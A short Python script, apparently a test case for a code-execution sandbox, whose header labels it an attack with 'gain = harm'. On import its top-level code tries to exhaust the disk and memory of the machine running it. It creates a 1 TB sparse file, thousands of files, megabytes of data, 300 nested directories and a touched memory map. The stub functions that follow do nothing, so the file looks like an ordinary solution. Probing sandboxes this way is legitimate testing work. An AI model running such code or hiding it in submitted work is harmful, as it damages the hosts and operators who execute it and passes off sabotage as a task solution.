# /// attack
# tries = "Fills the folder that it may write in: bytes, files, holes, folders in folders; and goes on in memory maps."
# gain = "harm"
# open_at = []
# plain = "nothing"
# ///
import mmap
import os

MOST = 64 << 20
made = 0


def attempt(action):
    try:
        return action()
    except (OSError, ValueError, MemoryError):
        return None


def write(path, data):
    with open(path, "ab", buffering=0) as file:
        return file.write(data)


def sparse(path):
    with open(path, "wb+") as file:
        os.ftruncate(file.fileno(), 1 << 40)


def mapped(path):
    with open(path, "wb+") as file:
        os.ftruncate(file.fileno(), 8 << 20)
        area = mmap.mmap(file.fileno(), 8 << 20)
        for at in range(0, 8 << 20, 4096):
            area[at] = 1


total = 0
if os.path.ismount("."):
    attempt(lambda: sparse("canary_hole"))
    for number in range(3000):
        attempt(lambda: write(f"canary_{number}", b"x"))
    for number in range(200):
        total += attempt(lambda: write(f"canary_{number % 40}", bytes(1 << 20))) or 0
    deep = "."
    for number in range(300):
        deep = os.path.join(deep, "d" * 8)
        attempt(lambda: os.mkdir(deep))
    if total > MOST:
        raise RuntimeError("LEAKED SECRET-filled " + str(total))
    attempt(lambda: mapped("canary_map"))


def double(x):
    return None


class Box:
    def put(self, x):
        pass

    def take(self):
        return None


def apply(f, x):
    return None
